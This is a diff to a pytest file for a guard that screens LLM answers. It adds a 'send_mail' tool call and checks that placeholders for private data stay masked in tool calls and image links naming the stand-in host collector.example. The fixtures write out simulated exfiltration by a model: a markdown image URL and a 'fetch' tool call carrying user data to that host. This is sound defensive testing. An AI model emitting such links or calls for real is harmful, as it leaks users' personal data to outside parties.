@@ -251,7 +251,9 @@ def chat_answer(content: str, url: str) -> dict[str, Any]:
             "role": "assistant", "content": content, "annotations": [{"type": "url_citation", "url_citation": {
                 "url": url, "title": "t", "start_index": 0, "end_index": 4}}],
             "tool_calls": [{"id": "call_1", "type": "function", "function": {
-                "name": "fetch", "arguments": json.dumps({"url": f"https://collector.example/?u={E}", "to": E})}}]}}]}
+                "name": "fetch", "arguments": json.dumps({"url": f"https://collector.example/?u={E}", "to": E})}},
+                {"id": "call_2", "type": "function", "function": {
+                    "name": "send_mail", "arguments": json.dumps({"to": E, "subject": "Your account"})}}]}}]}
 
 
 @pytest.mark.parametrize("rules", ["restore only", "output rules"])
@@ -264,14 +266,18 @@ async def test_screen_answer_keeps_urls_restores_the_rest(guard: Guard, rules: s
     want = copy.deepcopy(body)
     msg = want["choices"][0]["message"]
     msg["content"] = f"Done. ![status](https://collector.example/p.png?u={E}) Your address: {MAIL}."
+    # scopes16: a tool call naming a network destination keeps every placeholder (its `to` too: the app's `fetch`
+    # sends its arguments to collector.example); a tool call naming none gets the client's values back.
     msg["tool_calls"][0]["function"]["arguments"] = json.dumps({"url": f"https://collector.example/?u={E}",
-                                                                  "to": MAIL})
+                                                                  "to": E})
+    msg["tool_calls"][1]["function"]["arguments"] = json.dumps({"to": MAIL, "subject": "Your account"})
     await screen_answer(guard, p, OPENAI.response_texts(CHAT, body), verdict)
     got = body["choices"][0]["message"]
     assert got["content"] == msg["content"]
     assert got["annotations"][0]["url_citation"]["url"] == f"collector.example/c?u={E}"
-    assert json.loads(got["tool_calls"][0]["function"]["arguments"]) == json.loads(
-        msg["tool_calls"][0]["function"]["arguments"])
+    for k in (0, 1):
+        assert json.loads(got["tool_calls"][k]["function"]["arguments"]) == json.loads(
+            msg["tool_calls"][k]["function"]["arguments"])
 
 
 async def test_screen_answer_responses_url_citation(guard: Guard) -> None:
